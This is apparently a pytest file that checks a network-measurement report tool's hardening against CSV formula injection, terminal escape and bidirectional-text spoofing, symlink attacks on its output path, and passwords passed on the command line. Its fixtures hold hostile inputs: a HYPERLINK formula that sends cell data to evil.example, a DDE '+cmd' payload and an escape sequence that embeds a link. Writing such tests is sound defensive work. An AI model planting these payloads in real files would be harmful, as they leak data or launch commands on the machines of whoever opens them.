"""Issue 23 (hardening), the report rows: M2 (site labels from a task's `reference` carry no
formula into CSV, no control character into text), L9 (--out never follows a planted
link), L10 (a store login from a file or the environment, not the command line)."""

import csv
import io
import os
import subprocess
import sys

import pytest

from fixtures import samples
from jumbo.archive import credentials
from jumbo.archive.stores import open_store
from jumbo.report import cli

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPE = "\x1b]8;;http://evil.example\x07site\x1b[2J"
FORGED = "SITE-C\nBlack holes: fix these first (0)"
# Bidirectional overrides and isolates reorder what the reader sees (issue 32 row 12).
BIDI = "SITE-\u202eexe.gnp\u202c\u2066=1+1\u2069\u200f"
BIDI_CHARS = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.fixture
def hostile_store(tmp_path):
    url = "sqlite:///%s" % (tmp_path / "hostile.db")
    store = open_store(url)
    labels = [(FORMULA, "+cmd|'/c calc'!A0"), (ESCAPE, "@SUM(1+1)"), (FORGED, "-2+3"),
              ("\tTAB", "\rCR"), (BIDI, "\u2067RTL")]
    envelopes = []
    for index, (source_site, dest_site) in enumerate(labels):
        envelopes.append(samples.envelope(
            "pmtu", samples.pmtu_result(path_mtu=1500 if index % 2 else 9000),
            {"schema": 1, "source": "ps-%d.example.org" % index, "dest": "ps-b.example.org",
             "ip-version": 4},
            lead="ps-%d.example.org" % index, minutes=index,
            reference={"source-site": source_site, "dest-site": dest_site}))
    assert store.put_many(envelopes) == [None] * len(envelopes)
    store.close()
    return url


def _report(url, fmt, tmp_path):
    out = tmp_path / ("report." + fmt)
    assert cli.main(["--store", url, "--format", fmt, "--out", str(out)]) == 0
    return out.read_text()


def test_csv_cells_never_start_a_formula(hostile_store, tmp_path):
    text = _report(hostile_store, "csv", tmp_path)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    labels = [c for c in cells if "HYPERLINK" in c or "calc" in c or "SUM" in c or "TAB" in c]
    assert labels, "the hostile labels are in the report"
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only a number may start with a minus sign
        assert not any(ord(c) < 32 or c in BIDI_CHARS for c in cell), cell
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert "SITE-\\u202eexe.gnp\\u202c\\u2066=1+1\\u2069\\u200f" in cells


def test_text_output_carries_no_control_characters(hostile_store, tmp_path):
    text = _report(hostile_store, "text", tmp_path)
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert "\\x1b]8;;http://evil.example\\x07site" in text
    # The forged newline stays inside its line: one "Black holes" section header only.
    assert sum(1 for line in text.splitlines() if line.startswith("Black holes")) == 1
    assert all(c == "\n" or ord(c) >= 32 for c in text)
    assert not any(c in BIDI_CHARS for c in text)
    assert "SITE-\\u202eexe.gnp\\u202c\\u2066=" in text and "\\u2067RTL" in text


def test_out_never_follows_a_planted_link(hostile_store, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "report.txt"
    os.symlink(str(victim), str(out) + ".tmp")
    assert cli.main(["--store", hostile_store, "--out", str(out)]) == 0
    assert victim.read_text() == "precious\n"
    assert out.read_text().startswith("Jumbo-frame adoption report")
    assert not os.path.islink(str(out))
    assert os.readlink(str(out) + ".tmp") == str(victim)  # left as it was found
    assert [n for n in os.listdir(str(tmp_path)) if n.startswith(".report.txt.")] == []
    mode = os.stat(str(out)).st_mode & 0o777
    umask = os.umask(0)
    os.umask(umask)
    assert mode == 0o666 & ~umask


def test_login_from_a_file_or_the_environment(tmp_path, monkeypatch):
    auth = tmp_path / "auth"
    auth.write_text("pscheduler_reader:pa:ss\n")
    assert credentials.login(str(auth)) == ("pscheduler_reader", "pa:ss")
    monkeypatch.setenv(credentials.AUTH_ENV, "envuser:envpw")
    assert credentials.login(None) == ("envuser", "envpw")
    assert credentials.login(str(auth)) == ("pscheduler_reader", "pa:ss")
    auth.write_text("no separator\n")
    with pytest.raises(credentials.CredentialsError) as err:
        credentials.login(str(auth))
    assert "no separator" not in str(err.value) and str(auth) in str(err.value)
    args = cli.parser().parse_args(["--store", "https://archive.example.org:9200",
                                    "--auth-file", str(tmp_path / "absent")])
    with pytest.raises(Exception) as err:
        cli.store_options(args)
    assert "--auth-file" in str(err.value)
    auth.write_text("reader:s3cret\n")
    args = cli.parser().parse_args(["--store", "https://archive.example.org:9200",
                                    "--auth-file", str(auth)])
    assert cli.store_options(args)["auth"] == ("reader", "s3cret")


def test_replay_takes_the_login_from_a_file(tmp_path, opensearch_url):
    """jumbo-replay --auth-file against a proxy that demands the login (a real OpenSearch)."""
    from test_archive_archiver import FrontProxy
    proxy = FrontProxy(opensearch_url, "writer", "s3cret")
    auth = tmp_path / "auth"
    auth.write_text("writer:s3cret\n")
    source = tmp_path / "one.json"
    import json
    source.write_text(json.dumps(samples.pmtu_envelope(1, dest="ps-replay-auth")))
    prefix = "ra%d_" % os.getpid()
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([ROOT, os.path.join(ROOT, "python-jumbo")]))
    try:
        url = "%s/?prefix=%s" % (proxy.url, prefix)
        command = [sys.executable, "-m", "jumbo.archive.replay", str(source), "--to", url]
        refused = subprocess.run(command, env=env, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, universal_newlines=True, timeout=60)
        assert refused.returncode != 0
        done = subprocess.run(command + ["--auth-file", str(auth)], env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              universal_newlines=True, timeout=60)
        assert done.returncode == 0, done.stderr
        assert "1 stored" in done.stdout
    finally:
        from opensearch_fixture import drop_prefix
        drop_prefix(open_store("%s/?prefix=%s" % (opensearch_url, prefix)), prefix)
        proxy.close()
